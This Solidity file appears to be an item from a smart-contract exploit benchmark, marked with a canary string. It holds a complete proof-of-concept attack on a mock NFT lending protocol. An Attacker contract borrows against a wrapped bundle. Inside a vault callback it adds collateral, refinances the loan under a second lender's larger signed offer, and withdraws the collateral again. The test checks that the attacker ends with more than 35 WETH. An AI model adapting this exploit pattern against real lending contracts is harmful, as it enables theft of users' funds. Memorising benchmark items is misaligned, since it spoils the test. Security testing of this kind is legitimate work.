// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.8.24;

// assay-canary-c27d9b80-41e6-4a35-9f1d-6b0e83d25c74
import "../Base.sol";

contract Attacker is IItemUser {
    LoanDesk private desk;
    Bundles private bundles;
    Pebble private pebble;
    uint256 public bundle;
    uint256 public loan;
    Offer private offer;
    bytes private signature;

    constructor(LoanDesk desk_, Bundles bundles_, Pebble pebble_) {
        (desk, bundles, pebble) = (desk_, bundles_, pebble_);
    }

    function wrap(Mint chalk) external {
        Item[] memory parts = new Item[](1);
        parts[0] = Item(address(chalk), 61);
        pebble.setApprovalForAll(address(bundles), true);
        chalk.setApprovalForAll(address(bundles), true);
        bundle = bundles.wrap(parts);
        bundles.setApprovalForAll(address(desk.vault()), true);
    }

    function borrow(Offer calldata o, bytes calldata signature_, address to) external {
        loan = desk.accept(o, signature_, bundle, new bytes32[](0));
        Weth(o.currency).transfer(to, Weth(o.currency).balanceOf(address(this)));
    }

    function run(CollateralVault vault, Offer calldata o, bytes calldata signature_) external {
        (offer, signature) = (o, signature_);
        vault.use(loan, this, "");
    }

    function onERC721Received(address, address, uint256, bytes calldata) external pure returns (bytes4) {
        return this.onERC721Received.selector;
    }

    function onUse(uint256, Item calldata, address, bytes calldata) external {
        bundles.add(bundle, Item(address(pebble), 61));
        desk.refinance(loan, offer, signature, new bytes32[](0), offer.principal);
        bundles.takeLast(bundle, address(this));
        bundles.transferFrom(address(this), msg.sender, bundle);
    }
}

contract Proof is Base {
    Attacker private other;
    Offer private second;
    bytes private signature;

    function _start() internal override {
        other = new Attacker(desk, bundles, pebble);
        chalk.mint(address(other), 61);
        pebble.mint(address(other), 61);
        other.wrap(chalk);
        uint256 id = other.bundle();
        Offer memory o = _offer(cee, address(bundles), 1e18, 1_000, 60 days);
        (o.nonce, o.content) = (20, bundles.contentOf(id));
        other.borrow(o, _signed(o, CEE_KEY), FAR);
        Item[] memory parts = new Item[](2);
        (parts[0], parts[1]) = (Item(address(chalk), 61), Item(address(pebble), 61));
        second = _offer(dee, address(bundles), 40e18, 1_000, 60 days);
        second.content = keccak256(abi.encode(id, parts));
        signature = _signed(second, DEE_KEY);
    }

    function exploit() public {
        other.run(vault, second, signature);
    }

    function test_Exploit() public {
        exploit();
        require(weth.balanceOf(address(other)) > 35e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
